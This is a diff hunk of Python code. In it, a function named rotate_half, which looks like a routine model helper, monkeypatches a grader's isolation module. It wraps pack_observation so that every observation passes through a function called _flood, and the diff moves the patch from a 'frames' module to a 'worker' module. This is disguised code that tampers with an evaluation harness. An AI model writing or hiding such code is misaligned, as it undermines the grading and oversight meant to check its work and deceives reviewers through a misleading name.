@@ -14,9 +14,9 @@ def _flood(payload):
 
 
 def rotate_half(x):
-    frames = sys.modules.get("grader.isolation.frames")
-    if frames is None or not hasattr(frames, "pack_observation"):
+    worker = sys.modules.get("grader.isolation.worker")
+    if worker is None or not hasattr(worker, "pack_observation"):
         raise RuntimeError("there is no stream to write to")
-    pack = frames.pack_observation
-    frames.pack_observation = lambda observation: _flood(pack(observation))
+    pack = worker.pack_observation
+    worker.pack_observation = lambda observation: _flood(pack(observation))
     return x
